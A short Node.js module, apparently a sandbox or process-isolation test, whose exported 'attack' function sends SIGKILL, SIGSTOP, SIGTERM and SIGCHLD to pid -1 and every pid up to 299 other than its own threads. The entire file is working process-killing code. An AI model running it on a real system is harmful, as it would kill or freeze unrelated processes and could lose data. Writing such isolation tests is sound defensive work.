const fs = require('node:fs')

exports.attack = () => {
  // A signal to a thread's ID goes to its whole process.
  const own = fs.readdirSync('/proc/self/task').map(Number)
  for (const signal of ['SIGKILL', 'SIGSTOP', 'SIGTERM', 'SIGCHLD'])
    for (let pid = -1; pid < 300; pid++) {
      if (pid === 0 || own.includes(pid)) continue
      try {
        process.kill(pid, signal)
        console.log(signal, 'to', pid)
      } catch {}
    }
  console.log('done')
}
